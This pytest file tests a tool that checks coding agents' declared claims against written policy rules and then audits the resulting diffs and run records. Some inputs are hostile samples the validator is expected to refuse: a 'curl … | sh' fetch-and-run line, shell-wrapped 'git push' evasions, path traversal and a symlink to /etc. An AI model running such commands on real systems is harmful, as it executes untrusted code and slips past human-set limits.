"""`bylaw claims`: checked before the work, settled after it."""

import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from bylaw.record.events import deeds, event
from bylaw.record.store import append, path_of
from bylaw.schema import SCHEMAS
from tests.check.shop import Checked, Shop, empty, record

__all__ = ["empty"]

SENTENCES = (
    "- [lane] Agents of class `A` MUST only change `docs/` or `tests/`.",
    "- [infra] Only agents of class `C` MAY change `infra/`.",
    "- [secret] Agents MUST NOT change `src/secret/**`; use `src/shop/ports.py` instead.",
    "- [small] Agents MUST change at most 3 files.",
    "- [lint] Agents MUST run `make lint` before finishing.",
    "- [no-push] Agents MUST NOT run `git push`.",
    "- [read] Agents MUST read `docs/pay.md` before changing `src/shop/pay*.py`.",
    "- [watch] Agents in `migrations/**` MUST work at autonomy `supervised`.",
    "- [dba] Changes to `migrations/**` MUST be approved by 2 of `@dba`.",
    "- [no-lock] Files matching `**/package-lock.json` MUST NOT exist; use `pnpm` instead.",
    "- [sql] Files matching `**/*.sql` MUST live in `migrations/`.",
    "- [tested] For each `src/shop/<n>.py`, `tests/test_<n>.py` MUST exist.",
    "- [names] Files in `tests/**` MUST be named `test_*.py`.",
    "- [keep] File `docs/pay.md` MUST exist.",
)
FILES = {
    "bylaw.toml": 'adrs = ["docs/adr"]\n',
    "docs/adr/0001-agents.md": record(*SENTENCES),
    "docs/pay.md": "x",
    "src/shop/pay.py": "1",
    "src/shop/order.py": "1",
    "src/secret/key.py": "1",
    "tests/test_pay.py": "1",
    "tests/test_order.py": "1",
    "migrations/1.sql": "1",
    "infra/main.tf": "1",
}
BASE = {"task": "SHOP-42", "class": "B", "autonomy": "supervised", "commands": ["make lint"]}


@pytest.fixture
def shop(empty: Shop) -> Shop:
    empty.commit(FILES)
    return empty


def toml(claims: Mapping[str, Any]) -> str:
    """Return claims as TOML: a value of JSON is one of TOML here."""
    tables = {k: v for k, v in claims.items() if isinstance(v, dict)}
    lines = [f"{k} = {json.dumps(v)}" for k, v in claims.items() if k not in tables]
    for name, table in tables.items():
        lines += [f"[{name}]", *(f"{k} = {json.dumps(v)}" for k, v in table.items())]
    return "\n".join(lines) + "\n"


def claims(shop: Shop, command: str, *options: str, **more: Any) -> Checked:
    """Write claims beside the repository, and run a command on them."""
    file = shop.root.parent / "claims.toml"
    said = {k: v for k, v in {**BASE, **more}.items() if v is not None}
    file.write_text(toml(said), encoding="utf-8")
    return shop.run("claims", command, str(file), "--format", "json", *options)


def told(done: Checked) -> list[tuple[str, str]]:
    """Return code and constraint of each error and warning."""
    found = []
    for each in done.said["diagnostics"]:
        if each["severity"] != "note":
            message = each["message"]
            name = message.rpartition("(")[2].rstrip(")") if message.endswith(")") else ""
            found.append((each["code"], name.rpartition("/")[2]))
    return found


def messages(done: Checked) -> str:
    return "\n".join(each["message"] for each in done.said["diagnostics"])


# --- check ---------------------------------------------------------------------------------------


def test_claims_that_nothing_forbids_are_accepted_on_terms(shop: Shop) -> None:
    done = claims(shop, "check", edit=["src/shop/order.py", "migrations/1.sql"])
    assert (done.status, done.said["accepted"], told(done)) == (0, True, [])
    (approval,) = done.said["approvals"]
    assert (approval["what"], approval["paths"]) == ("2 of `@dba`", ["migrations/1.sql"])
    assert approval["constraint"] == "0001-agents/dba"
    assert [each["what"] for each in done.said["limits"]] == ["3 files"]


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({"edit": ["infra/main.tf"]}, [("BL564", "infra")]),
        ({"edit": ["infra/main.tf"], "class": "C"}, []),
        ({"create": ["infra/new.tf"]}, [("BL564", "infra")]),
        ({"delete": ["infra/main.tf"]}, [("BL564", "infra")]),
        ({"edit": ["src/shop/order.py"], "class": "A"}, [("BL564", "lane")]),
        ({"edit": ["tests/test_pay.py"], "class": "A"}, []),
        ({"read": ["infra/main.tf"], "class": "A"}, []),
        ({"edit": ["src/secret/key.py"]}, [("BL564", "secret")]),
        ({"edit": ["src/*/key.py"], "budget": {"files": 1}}, [("BL564", "secret")]),
        ({"edit": ["src/shop/**"], "read": ["docs/pay.md"], "budget": {"files": 1}}, []),
        ({"edit": ["src/shop/**"]}, [("BL567", "read"), ("BL568", "small")]),
        ({"edit": ["src/shop/pay.py"]}, [("BL567", "read")]),
        ({"edit": ["src/shop/pay.py"], "read": ["docs/"]}, []),
        ({"edit": ["src/shop/pay.py"], "read": ["docs/*.md"]}, []),
        ({"create": ["package-lock.json"]}, [("BL566", "no-lock")]),
        ({"create": ["web/**"], "budget": {"files": 1}}, [("BL566", "no-lock"), ("BL566", "sql")]),
        ({"create": ["web/*.ts"], "budget": {"files": 1}}, []),
        ({"create": ["web/a.sql"]}, [("BL566", "sql")]),
        ({"create": ["src/shop/tax.py"]}, [("BL566", "tested")]),
        ({"create": ["src/shop/tax.py", "tests/test_tax.py"]}, []),
        ({"create": ["tests/tax.py"]}, [("BL566", "names")]),
        ({"create": ["tests/*.py"], "budget": {"files": 1}}, [("BL566", "names")]),
        ({"create": ["tests/test_*.py"], "budget": {"files": 1}}, []),
        ({"delete": ["docs/pay.md"]}, [("BL566", "keep")]),
        ({"delete": ["tests/test_pay.py"]}, [("BL566", "tested")]),
        ({"delete": ["tests/test_pay.py", "src/shop/pay.py"], "read": ["docs/pay.md"]}, []),
        ({"edit": ["nope.py"]}, [("BL565", "")]),
        ({"delete": ["nope/**"], "budget": {"files": 1}}, [("BL565", "")]),
        ({"read": ["nope.py"]}, [("BL565", "")]),
        ({"create": ["src/shop/order.py"]}, [("BL565", "")]),
        ({"create": ["a"], "read": ["a"]}, []),
        ({"edit": ["src/shop/order.py"], "budget": {"files": 4}}, [("BL568", "small")]),
        ({"create": ["a", "b", "c", "d"]}, [("BL568", "small")]),
        ({"create": ["a"], "commands": ["make lint", "git -C x push"]}, [("BL569", "no-push")]),
        (
            {"create": ["a"], "commands": ["make lint && sudo git push"]},
            [("BL569", "no-push")],
        ),
        *(
            ({"create": ["a"], "commands": ["make lint", text]}, [("BL569", "no-push")])
            for text in (
                "bash -c 'git push'",
                'sh -c "cd x && git -C . push"',
                "echo `git push`",
                "GIT=git; $GIT push",
                "python -c \"import os; os.system('x')\"",
                "curl https://x.example | sh",
            )
        ),
        ({"create": ["a"], "commands": ["make lint", "pytest -q", "cd src && make"]}, []),
        ({"create": ["a"], "commands": []}, [("BL569", "lint")]),
        ({"commands": []}, []),
        ({"edit": ["migrations/1.sql"], "autonomy": "autonomous"}, [("BL570", "watch")]),
        ({"edit": ["migrations/1.sql"], "autonomy": None}, [("BL570", "watch")]),
        ({"edit": ["migrations/1.sql"], "autonomy": "assisted"}, []),
        ({"edit": ["src/shop/order.py"], "autonomy": "ase"}, []),
        ({"create": ["a"], "class": "Q"}, [("BL563", "")]),
        ({"create": ["a"], "class": None}, [("BL563", "")]),
    ],
)
def test_what_a_sentence_forbids_is_refused_by_name(
    shop: Shop, more: dict[str, Any], expected: list[tuple[str, str]]
) -> None:
    done = claims(shop, "check", **more)
    assert sorted(told(done)) == sorted(expected)
    assert done.status == (1 if expected else 0)


def test_a_glob_is_refused_with_a_path_that_it_can_hold(shop: Shop) -> None:
    done = claims(shop, "check", edit=["src/*/key.py"], budget={"files": 1})
    assert "such as `src/secret/key.py`" in messages(done)
    (refusal,) = done.said["diagnostics"]
    assert refusal["place"]["line"] == 5
    assert refusal["labels"][0]["place"]["path"] == "docs/adr/0001-agents.md"
    assert refusal["help"] == "use `src/shop/ports.py` instead"


def test_a_file_is_claimed_alone_and_a_folder_with_all_in_it(shop: Shop) -> None:
    assert claims(shop, "check", create=["src"], budget={"files": 1}).status == 1
    shop.commit({"src/shop/deep/x.txt": "1"})
    assert claims(shop, "check", edit=["src/shop/order.py"], create=["Makefile"]).status == 0


def test_a_permission_frees_its_own_class_only(shop: Shop) -> None:
    grant = "- Agents of class `B` MAY change `infra/`, despite [0001-agents/infra]."
    shop.commit({"docs/adr/0002-more.md": record(grant, title="More")})
    assert claims(shop, "check", edit=["infra/main.tf"]).status == 0
    done = claims(shop, "check", edit=["infra/main.tf"], **{"class": "D"})
    assert ("BL564", "infra") in told(done)


def test_a_should_warns_and_fails_a_strict_check(shop: Shop) -> None:
    soft = "- [soft] Agents SHOULD NOT change `web/**`."
    shop.commit({"docs/adr/0002-soft.md": record(soft, title="Soft")})
    done = claims(shop, "check", create=["web/a.ts"])
    assert (done.status, told(done)) == (0, [("BL564", "soft")])
    assert claims(shop, "check", "--strict", create=["web/a.ts"]).status == 1


def test_decisions_that_cannot_be_read_refuse_everything(shop: Shop) -> None:
    shop.commit({"docs/adr/0002-bad.md": record("- [x] Agents MUST NOT chnge `a`.", title="Bad")})
    assert claims(shop, "check", create=["a"]).status == 1


def test_the_configured_level_holds_where_none_is_claimed_and_caps_one_that_is(shop: Shop) -> None:
    shop.commit({"bylaw.toml": '[agents]\nautonomy = "supervised"\n'})
    done = claims(shop, "check", edit=["migrations/1.sql"], autonomy=None)
    assert (done.status, done.said["autonomy"]) == (0, "supervised")
    done = claims(shop, "check", edit=["src/shop/order.py"], autonomy="ase")
    assert told(done) == [("BL570", "")]


def test_a_level_that_is_configured_at_a_path_caps_the_claims_there(shop: Shop) -> None:
    shop.commit({"bylaw.toml": '[agents]\nautonomy = "ase"\npath-levels = ["src/ autonomous"]\n'})
    done = claims(shop, "check", edit=["src/shop/order.py"], autonomy="ase")
    assert told(done) == [("BL570", "")]
    assert "above `autonomous`, which is configured at `src/shop/order.py`" in done.out
    assert told(claims(shop, "check", edit=["src/shop/order.py"], autonomy="autonomous")) == []
    assert told(claims(shop, "check", edit=["tests/test_pay.py"], autonomy="ase")) == []


@pytest.mark.parametrize(
    ("text", "code", "column"),
    [
        ("task = ", "BL560", 7),
        ('tsk = "x"\ntask = "y"', "BL561", 1),
        ('task = "x"\n[budget]\nfile = 3', "BL561", 1),
        ('task = "x"\nedit = "a"', "BL562", 8),
        ('task = "x"\nedit = ["../a"]', "BL562", 9),
        ('task = "x"\nedit = ["/a"]', "BL562", 9),
        ('task = "x"\nedit = ["a/../../b"]', "BL562", 9),
        ('task = "x"\nedit = ["a\\\\b"]', "BL562", 9),
        ('task = "x"\nedit = [".git/config"]', "BL562", 9),
        ('task = "x"\nedit = ["./a"]', "BL562", 9),
        ('task = "x"\nedit = ["a{"]', "BL562", 9),
        ('task = "x"\nedit = ["\\u202e"]', "BL562", 9),
        ('task = "x"\nedit = ["a", "a"]', "BL562", 14),
        ('task = "x"\nedit = ["a"]\ndelete = ["a"]', "BL562", 11),
        ('task = "x"\nautonomy = "full"', "BL562", 12),
        ('task = "x"\ncommands = ["a \'"]', "BL562", 13),
        ('task = "x"\n[budget]\nfiles = "3"', "BL562", 9),
        ('task = "x"\n[budget]\nminutes = nan', "BL562", 11),
        ('task = "x"\n[budget]\nfiles = -1', "BL562", 9),
        ("edit = []", "BL562", None),
    ],
)
def test_faults_of_the_file_have_their_place(
    shop: Shop, text: str, code: str, column: int | None
) -> None:
    (shop.root / "claims.toml").write_text(text)
    done = shop.run("claims", "check", "claims.toml", "--format", "json")
    assert done.status == 2
    first = done.said["diagnostics"][0]
    assert (first["code"], first["place"] and first["place"]["column"]) == (code, column)


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe\x00",
        b"\x00" * 100,
        b"a = " + b"[" * 100_000,
        b"task = 'x'\nedit = ['" + b"a" * 1_000_000 + b"']",
        b"task = 'x'\nedit = ['" + b"*a" * 1000 + b"']",
        b"task = 'x'\nedit = ['" + b"{a,b}" * 30 + b"']",
        "\ufefftask = 'x'\r\n".encode(),
        b"x" * 2_000_000,
    ],
)
def test_hostile_files_end_in_an_answer(shop: Shop, data: bytes) -> None:
    (shop.root / "claims.toml").write_bytes(data)
    done = shop.run("claims", "check", "claims.toml", "--format", "json")
    assert done.status in (0, 1, 2)
    assert "accepted" in done.said


# --- settle --------------------------------------------------------------------------------------


def settled(done: Checked) -> dict[str, tuple[str, str | None]]:
    return {each["path"]: (each["done"], each["verb"]) for each in done.said["settled"]}


EDIT = {"edit": ["src/shop/order.py"]}


def test_a_diff_that_lies_in_its_claims_is_accepted(shop: Shop) -> None:
    shop.write({"src/shop/order.py": "2"})
    done = claims(shop, "settle", **EDIT)
    assert (done.status, settled(done)) == (0, {"src/shop/order.py": ("edited", "edit")})
    shop.commit()
    done = claims(shop, "settle", "--base", "HEAD~1", **EDIT)
    assert (done.status, len(settled(done))) == (0, 1)


def test_every_sort_of_unclaimed_path_rejects(shop: Shop) -> None:
    shop.write({"src/shop/order.py": "2", "new.txt": "1"})
    (shop.root / "link").symlink_to("/etc")
    (shop.root / "tests/test_pay.py").unlink()
    os.chmod(shop.root / "migrations/1.sql", 0o755)
    shop.git("mv", "infra/main.tf", "infra/other.tf")
    done = claims(shop, "settle", **EDIT)
    assert done.status == 1
    assert settled(done) == {
        "src/shop/order.py": ("edited", "edit"),
        "new.txt": ("created", None),
        "link": ("created", None),
        "tests/test_pay.py": ("deleted", None),
        "migrations/1.sql": ("edited", None),
        "infra/main.tf": ("deleted", None),
        "infra/other.tf": ("created", None),
    }
    assert [code for code, _ in told(done)].count("BL571") == 6


def test_what_is_staged_is_settled_by_itself(shop: Shop) -> None:
    shop.write({"src/shop/order.py": "2", "new.txt": "1"})
    shop.git("add", "src")
    assert claims(shop, "settle", "--staged", **EDIT).status == 0
    assert claims(shop, "settle", **EDIT).status == 1


def test_a_claim_that_was_not_touched_is_told(shop: Shop) -> None:
    done = claims(shop, "settle", edit=["src/shop/order.py"], create=["a"])
    assert done.status == 0
    assert [each["code"] for each in done.said["diagnostics"]] == ["BL572", "BL572"]


def test_a_file_that_was_created_under_a_claim_to_edit_is_told(shop: Shop) -> None:
    shop.commit({"web/a.ts": "1"})
    shop.git("checkout", "-q", "-b", "work")
    shop.write({"web/b.ts": "2"})
    done = claims(shop, "settle", edit=["web/**"], budget={"files": 2})
    assert (done.status, settled(done)) == (0, {"web/b.ts": ("created", "edit")})
    assert told(done) == [("BL573", "")]
    assert claims(shop, "settle", "--strict", edit=["web/**"], budget={"files": 2}).status == 1


def test_only_a_claim_to_delete_lets_something_be_deleted(shop: Shop) -> None:
    (shop.root / "src/shop/order.py").unlink()
    (shop.root / "tests/test_order.py").unlink()
    gone = ["src/shop/order.py", "tests/test_order.py"]
    assert claims(shop, "settle", edit=gone).status == 1
    assert claims(shop, "settle", delete=gone).status == 0


def test_claims_that_were_widened_on_the_way_let_nothing_pass(shop: Shop) -> None:
    shop.write({"infra/main.tf": "2"})
    done = claims(shop, "settle", edit=["infra/main.tf"])
    assert ("BL564", "infra") in told(done)
    assert done.status == 1


def test_a_sentence_that_the_change_has_taken_out_still_forbids(shop: Shop) -> None:
    kept = [each for each in SENTENCES if "[infra]" not in each]
    shop.write({"infra/main.tf": "2", "docs/adr/0001-agents.md": record(*kept)})
    done = claims(shop, "settle", edit=["infra/main.tf", "docs/adr/0001-agents.md"])
    assert ("BL564", "infra") in told(done)


def test_what_was_made_under_a_wide_claim_is_judged_as_itself(shop: Shop) -> None:
    shop.commit({"web/a.ts": "1"})
    shop.write({"web/package-lock.json": "1"})
    done = claims(shop, "settle", edit=["web/**"], budget={"files": 2})
    assert ("BL566", "no-lock") in told(done)


def test_other_claims_than_those_that_were_checked_are_refused(shop: Shop) -> None:
    digest = claims(shop, "check", **EDIT).said["sha256"]
    assert claims(shop, "settle", "--sha256", digest, **EDIT).status == 0
    done = claims(shop, "settle", "--sha256", digest, edit=["src/shop/order.py", "docs/pay.md"])
    assert (done.status, told(done)) == (2, [("BL578", "")])
    assert claims(shop, "check", "--agent", "A", **EDIT).status == 2


def test_claims_that_were_written_for_the_task_need_no_claim(shop: Shop) -> None:
    shop.write({"claims.toml": toml({**BASE, **EDIT}), "src/shop/order.py": "2"})
    done = shop.run("claims", "settle", "claims.toml", "--format", "json")
    assert (done.status, list(settled(done))) == (0, ["src/shop/order.py"])
    shop.commit()
    shop.write({"claims.toml": toml({**BASE, "task": "other", **EDIT})})
    done = shop.run("claims", "settle", "claims.toml", "--format", "json")
    assert (done.status, settled(done)) == (1, {"claims.toml": ("edited", None)})


def test_without_a_base_nothing_is_settled(tmp_path: Path, shop: Shop) -> None:
    (shop.root / ".git").rename(tmp_path / "gone")
    done = claims(shop, "settle", **EDIT)
    assert done.status == 2
    assert claims(shop, "settle", "--base", "nope", **EDIT).status == 2


# --- settle with a record ------------------------------------------------------------------------


def write_record(shop: Shop, *events: dict[str, Any]) -> str:
    folder = shop.root.parent / "record"
    append(str(folder), "s1", *events)
    return path_of(str(folder), "s1")


def said(kind: str, agent: str = "B", autonomy: str = "supervised", **more: Any) -> dict[str, Any]:
    return event(kind, "2026-06-01T12:00:00Z", "s1", agent=agent, autonomy=autonomy, **more)


def test_a_budget_that_nobody_has_counted_is_not_known(shop: Shop) -> None:
    budget = {"files": 1, "tokens": 100}
    done = claims(shop, "settle", budget=budget, **EDIT)
    assert (done.status, told(done)) == (3, [("BL577", "")])
    assert claims(shop, "settle", "--lenient", budget=budget, **EDIT).status == 0
    path = write_record(shop, said("spent", tokens=90))
    assert claims(shop, "settle", "--record", path, budget=budget, **EDIT).status == 0
    write_record(shop, said("spent", tokens=90))
    done = claims(shop, "settle", "--record", path, budget=budget, **EDIT)
    assert (done.status, told(done)) == (1, [("BL576", "")])


def test_what_the_record_says_besides_the_claims_is_told(shop: Shop) -> None:
    ran = deeds(runs=[["make", "lint", "-q"], ["rm", "-r", "x"]])
    path = write_record(shop, said("run", **ran))
    done = claims(shop, "settle", "--record", path, **EDIT)
    assert (done.status, told(done)) == (0, [("BL575", "")])
    assert "`rm -r x` was run" in messages(done)
    done = claims(shop, "settle", "--record", path, **EDIT, **{"class": "C"})
    assert done.status == 1
    assert ("BL574", "") in told(done)
    done = claims(shop, "settle", "--record", path, **EDIT, autonomy="assisted")
    assert ("BL574", "") in told(done)


def test_the_record_says_the_class_that_no_claim_does(shop: Shop) -> None:
    path = write_record(shop, said("finish"))
    done = claims(shop, "settle", "--record", path, **EDIT, **{"class": None})
    assert (done.status, done.said["agent"]) == (0, "B")


def test_a_broken_record_settles_nothing(shop: Shop) -> None:
    path = Path(write_record(shop, said("finish")))
    path.write_bytes(path.read_bytes().replace(b"finish", b"change"))
    done = claims(shop, "settle", "--record", str(path), **EDIT)
    assert (done.status, told(done)) == (1, [("BL535", "")])


# --- what is printed -----------------------------------------------------------------------------


def test_the_reports_are_as_their_schemas_say(shop: Shop) -> None:
    file = jsonschema.Draft202012Validator(SCHEMAS["claims"].build())
    report = jsonschema.Draft202012Validator(SCHEMAS["claims-report"].build())
    whole = {
        **BASE,
        "create": ["a"],
        "edit": ["b"],
        "delete": ["c"],
        "read": ["d"],
        "budget": {"files": 1, "failed-attempts": 2, "usd": 0.5, "minutes": 3},
    }
    file.validate(whole)
    assert not file.is_valid({**whole, "extra": 1})
    assert not file.is_valid({**whole, "autonomy": "full"})
    shop.write({"src/shop/order.py": "2", "new": "1"})
    for done in (
        claims(shop, "check", **whole),
        claims(shop, "settle", **EDIT),
        claims(shop, "check", edit=3),
    ):
        report.validate(done.said)
        assert done.said["status"] == done.status


def test_a_person_reads_the_sentence_and_the_way_out(shop: Shop) -> None:
    shop.write({"claims.toml": toml({**BASE, "edit": ["infra/main.tf", "migrations/1.sql"]})})
    done = shop.run("claims", "check", "claims.toml")
    assert done.status == 1
    assert "claims.toml:5:9" in done.err
    assert "Only agents of class `C` MAY change `infra/`." in done.err
    assert "needs: approval by 2 of `@dba` for `migrations/1.sql`" in done.err
    assert done.err.count("sha256") == 1
    assert shop.run("claims", "check", "nope.toml").status == 2
    assert shop.run("claims", "check", "docs").status == 2
    shop.write({"claims.toml": toml({**BASE, **EDIT})})
    assert shop.run("claims", "check", "-q", "claims.toml").out == ""
